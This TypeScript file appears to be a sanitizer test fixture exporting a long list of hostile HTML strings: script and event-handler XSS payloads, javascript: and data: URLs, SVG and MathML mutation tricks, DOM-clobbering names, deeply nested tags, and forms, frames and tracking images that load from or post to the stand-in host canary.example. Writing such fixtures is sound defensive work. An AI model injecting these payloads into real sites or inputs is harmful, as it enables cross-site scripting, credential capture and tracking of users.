const deep = (tag: string, levels: number, inside: string) =>
  `<${tag}>`.repeat(levels) + inside + `</${tag}>`.repeat(levels)

const RUN = '<img src=x onerror=alert(1)>'

const scripts = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//canary.example/x.js></sCrIpT>',
  '<script type=module src=https://canary.example/x.mjs></script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script/x>',
  '<script\u0000>alert(1)</script>',
  '<<script>alert(1)//<</script>',
  '<script>\u2028alert(1)</script',
]

const handlers = [
  RUN,
  '<img/src="x"/onerror=alert(1)//',
  '<img src=x oNeRrOr\u000b=alert(1)>',
  '<img src=x onerror\n=\nalert(1)>',
  '<img src="/media/public/none.webp" onload=alert(1) onerror=alert(1)>',
  '<img src=x onerror="&#97;lert(1)">',
  '<p onclick="alert(1)" onmouseover=alert(1) onfocus=alert(1) tabindex=0 autofocus>x</p>',
  '<a href="https://a.example" onclick="alert(1)">x</a>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<video src=x onerror=alert(1)><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1) autoplay></audio>',
  '<input onfocus=alert(1) autofocus>',
  '<select autofocus onfocus=alert(1)><option>x</option></select>',
  '<p style="animation:x 1s" onanimationstart=alert(1)>x</p>',
  '<div onpointerrawupdate=alert(1) oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>x</div>',
  '<button popovertarget=x>x</button><p popover id=x onbeforetoggle=alert(1)>x</p>',
]

const addresses = [
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#9;script:alert(1)">x</a>',
  '<a href="java&Tab;script&colon;alert(1)">x</a>',
  '<a href="&#106;&#97;vascript:alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="\u00a0javascript:alert(1)">x</a>',
  '<a href="javascript\u0000:alert(1)">x</a>',
  '<a href="javascript://%0aalert(1)">x</a>',
  '<a href="https:javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="blob:https://canary.example/1">x</a>',
  '<a href="filesystem:https://canary.example/x">x</a>',
  '<a href="//canary.example">x</a>',
  '<a href="\\\\canary.example">x</a>',
  '<a href="http://canary.example">x</a>',
  '<a href="/logout" ping="https://canary.example">x</a>',
  '<a href="javascript:alert(1)" target="_top" download>x</a>',
  '<area href="javascript:alert(1)" shape=default><map name=m></map>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml,<svg onload=alert(1) xmlns=http://www.w3.org/2000/svg>">',
  '<img src="//canary.example/track.gif">',
  '<img src="http://canary.example/track.gif">',
  '<img src="\\\\canary.example\\track.gif">',
  '<img srcset="https://canary.example/a.png 1x, https://canary.example/b.png 2x" src="/media/public/a.webp">',
  '<img lowsrc="https://canary.example/a.png" dynsrc="https://canary.example/b" longdesc="https://canary.example/c">',
  '<picture><source srcset="https://canary.example/a.webp"><img src="x"></picture>',
  '<table background="https://canary.example/a.png"><tr><td background="https://canary.example/b.png">x</td></tr></table>',
  '<blockquote cite="javascript:alert(1)">x</blockquote>',
]

const otherWorlds = [
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script href="https://canary.example/x.js"/></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a><set attributeName=href to="javascript:alert(1)"></set><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><a/></svg>#x"/></svg>',
  '<svg><image href="https://canary.example/a.png"/></svg>',
  `<svg><foreignObject>${RUN}</foreignObject></svg>`,
  `<svg><style><img src=x onerror=alert(1)></style></svg>`,
  '<svg><title><a id="</title><img src=x onerror=alert(1)>"></title></svg>',
  `<svg></p><style><a id="</style>${RUN}">`,
  '<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>',
  '<math href="javascript:alert(1)">x</math>',
  '<math><maction actiontype="statusline#https://canary.example" xlink:href="javascript:alert(1)">x</maction></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  `<math><annotation-xml encoding="text/html">${RUN}</annotation-xml></math>`,
  `<math><mi><mglyph><svg><mtext><style><a title="</style>${RUN}"></style></mtext></svg></mglyph></mi></math>`,
]

const mutations = [
  `<noscript><p title="</noscript>${RUN}">`,
  `<template>${RUN}</template>`,
  `<template shadowrootmode=open>${RUN}</template>`,
  `<table><td><template><s><template><s>${RUN}@x</s></template></template></td></table>`,
  `<textarea>${RUN}</textarea>`,
  `<title>${RUN}</title>`,
  `<xmp><p title="</xmp>${RUN}"></xmp>`,
  `<noembed><p title="</noembed>${RUN}"></noembed>`,
  `<noframes><p title="</noframes>${RUN}"></noframes>`,
  `<iframe><p title="</iframe>${RUN}"></iframe>`,
  `<style><p title="</style>${RUN}"></style>`,
  `<!--><img src=x onerror=alert(1)>-->`,
  `<!-- --!><img src=x onerror=alert(1)>-->`,
  `<![CDATA[<img src=x onerror=alert(1)>]]>`,
  `<?xml version="1.0"?><img src=x onerror=alert(1)>`,
  `<p title="--><img src=x onerror=alert(1)>">x</p>`,
  '<img alt="`><img src=x onerror=alert(1)>" src=x>',
  `<a href="https://a.example/&quot;><img src=x onerror=alert(1)>">x</a>`,
  `<plaintext>${RUN}`,
  `<select><template><style><!--</style><a rel="--></style></template></select>${RUN}">`,
  '<p is="x-canary"><x-canary onclick=alert(1)>x</x-canary></p>',
  `&lt;img src=x onerror=alert(1)&gt;<b>&amp;lt;script&amp;gt;alert(1)</b>`,
  '\u0000<im\u0000g src=x onerror=alert(1)>',
  `\ufeff\u202e<img src=x onerror=alert(1)>`,
]

const frames = [
  '<iframe src="https://canary.example"></iframe>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="https://canary.example/x.swf"></object>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="https://canary.example/x">',
  '<frameset><frame src="https://canary.example"></frameset>',
  '<portal src="https://canary.example"></portal>',
  '<form action="https://canary.example"><input name="token"><button>Log in</button></form>',
  '<form id=x></form><button form=x formaction="javascript:alert(1)">x</button>',
  '<isindex action="https://canary.example" prompt=x>',
  '<base href="https://canary.example/"><img src="a.png">',
  '<meta http-equiv="refresh" content="0;url=https://canary.example">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<link rel=stylesheet href=https://canary.example/x.css>',
  '<link rel=prefetch href=https://canary.example/x><link rel=dns-prefetch href=//canary.example>',
]

const looks = [
  '<style>@import "https://canary.example/x.css";</style>',
  '<p style="position:fixed;inset:0;background:url(https://canary.example/a.png)" class="fixed">x</p>',
  '<p style="background:\\75rl(https://canary.example/a.png)">x</p>',
  '<p style="width:expression(alert(1));behavior:url(https://canary.example/x.htc)">x</p>',
  '<font face="x" color="red" size=7>x</font><center>x</center>',
]

/** Names that a script of the page may look up on the document or the window. */
const names = [
  '<p id="root" class="x" name="y">a</p>',
  '<a id=userData href="https://a.example">x</a><a id=userData name=state href="https://a.example">y</a>',
  '<img name=getElementById src=x><img name=cookie src=x><img name=body src=x>',
  '<form id=document><input name=cookie></form>',
  '<p data-x="1" aria-label="Logout" role=alert slot=x part=y itemprop=z contenteditable>x</p>',
  '<a href="https:canary.example" id="__proto__" name="constructor">x</a>',
]

const nested = [
  deep('blockquote', 300, RUN),
  deep('b', 300, RUN),
  deep('table', 300, RUN),
  deep('svg', 60, `<style>${RUN}</style>`),
  deep('math', 100, `<mtext>${RUN}</mtext>`),
  deep('p', 1000, RUN),
]

/**
 * HTML that attacks its readers: it tries to run a script (`alert`), to load something from `canary.example`, or to put
 * a form, a style, an id or a name into the page. Web and server each clean it on their own.
 */
export const hostileHtml: readonly string[] = [
  ...scripts,
  ...handlers,
  ...addresses,
  ...otherWorlds,
  ...mutations,
  ...frames,
  ...looks,
  ...names,
  ...nested,
]
